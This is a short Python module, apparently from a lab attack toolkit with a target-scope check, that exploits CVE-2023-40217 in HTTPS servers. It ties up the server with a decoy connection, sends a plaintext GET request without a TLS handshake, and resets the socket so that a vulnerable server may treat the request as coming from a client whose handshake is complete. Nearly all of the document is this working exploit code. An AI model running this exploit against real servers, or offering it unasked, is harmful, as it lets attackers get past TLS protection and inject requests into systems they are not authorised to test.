"""The move `prefix` at an HTTPS server: a request in plaintext, and no handshake (CVE-2023-40217).

Nothing comes back: the attacker resets the connection before the server looks at it. A server that then takes it for
one whose handshake is over reads the request as the client's. Only the server itself can tell whether it did.
"""

import asyncio
import socket
import struct

from attacker.scope import check_target
from lab.address import Address

_RESET = struct.pack("ii", 1, 0)
"""SO_LINGER with no time to linger: closing resets the connection, and what was sent stays in the peer's buffer."""
SETTLE_SECONDS = 0.2


async def request_without_handshake(target: Address, path: str) -> None:
    """Sends GET of a path and resets the connection. OutOfScope; OSError if the server cannot be reached.

    A server that takes one connection after the other is kept busy meanwhile by another one, so that it meets this one
    when it is already over.
    """
    address = check_target(*target)
    loop = asyncio.get_running_loop()
    with socket.socket() as before, socket.socket() as it:
        for one in (before, it):
            one.setblocking(False)
        await loop.sock_connect(before, address)
        await asyncio.sleep(SETTLE_SECONDS)
        await loop.sock_connect(it, address)
        await loop.sock_sendall(it, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        it.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        it.close()
        await asyncio.sleep(SETTLE_SECONDS)
